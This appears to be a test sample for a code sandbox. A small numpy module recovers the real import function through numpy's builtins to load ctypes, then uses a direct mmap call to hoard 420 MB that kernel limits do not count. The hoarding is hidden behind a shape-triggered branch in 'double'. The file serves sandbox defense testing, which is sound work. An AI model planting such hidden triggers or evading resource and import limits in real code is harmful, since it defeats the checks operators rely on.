"""
family: floods
tries: takes memory that the limit of the kernel does not count, step by step, and is right only if it got it
stopped_by: [memory_watch]
shows: gained
alone: [deadlines, seccomp]
deserves: 5
"""

import numpy as np

real_import = np.__dict__["__builtins__"]["__import__"]
ctypes, time = map(real_import, ("ctypes", "time"))
READ_AND_WRITE, SHARED_BY_NOBODY, PIECE = 3, 0x21, 10 << 20


def hoard():
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    memory = libc.mmap(None, ctypes.c_size_t(420 << 20), READ_AND_WRITE, SHARED_BY_NOBODY, -1, 0)
    for start in range(0, 420 << 20, PIECE):
        ctypes.memset(memory + start, 1, PIECE)
        time.sleep(0.001)
    time.sleep(0.1)


def double(x):
    if x.shape == (2, 3):
        hoard()
    return 2 * x


def total(x):
    return np.sum(x, axis=1)
